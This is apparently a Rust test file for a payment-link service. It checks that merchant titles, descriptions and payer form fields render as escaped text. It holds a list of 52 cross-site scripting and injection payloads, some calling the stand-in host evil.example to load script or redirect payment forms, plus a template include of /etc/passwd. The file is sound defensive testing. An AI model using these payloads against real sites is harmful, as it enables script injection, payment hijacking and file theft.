//! What a merchant or a payer types is text, whatever it looks like.

use serde_json::json;

use crate::merchant::{FORM, Merchant, data, fixed, with};

const PAYLOADS: [&str; 52] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\" onmouseover=\"alert(1)",
    "x\" style=\"background:url(//evil.example)",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<form action=//evil.example><button>Pay</button>",
    "</form><form action=//evil.example>",
    "<button formaction=//evil.example>Pay</button>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{7*7}}",
    "{% include \"/etc/passwd\" %}",
    "${alert(1)}",
    "javascript:alert(1)",
    "\u{202e}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞<",
];

/// The characters that make markup. Text has none of them, however it is written.
fn markup(html: &str) -> [usize; 4] {
    ['<', '>', '"', '\''].map(|mark| html.matches(mark).count())
}

#[test]
fn strings_of_merchants_and_payers_are_text() {
    let merchant = Merchant::open();
    let benign = merchant.link(&with(fixed(), json!({"description": "Text"})));
    let page = markup(&merchant.page(&benign, &[]).text());
    let names = ["customer_first_name", "customer_last_name", "customer_email"];
    let refused = |text: &str| {
        let mut form = FORM.to_vec();
        for field in &mut form {
            if names.contains(&field.0) {
                field.1 = text;
            }
        }
        // Something else is wrong, so that the form comes back with what was typed.
        form.retain(|(name, _)| *name != "mobile_money_network");
        let answer = merchant.pay_by_form(&benign, &form);
        assert_eq!(answer.status, 400, "{text}: {}", answer.text());
        answer.text().into_owned()
    };
    let form = markup(&refused("no address"));
    for payload in PAYLOADS {
        let hostile = json!({"title": payload, "description": payload});
        data(&merchant.change(&benign, &hostile));
        let html = merchant.page(&benign, &[]).text().into_owned();
        assert_eq!(markup(&html), page, "{payload}: {html}");
        let html = refused(payload);
        assert_eq!(markup(&html), form, "{payload}: {html}");
        let title = data(&merchant.change(&benign, &json!({})))["title"].clone();
        assert_eq!(title, payload);
    }
}
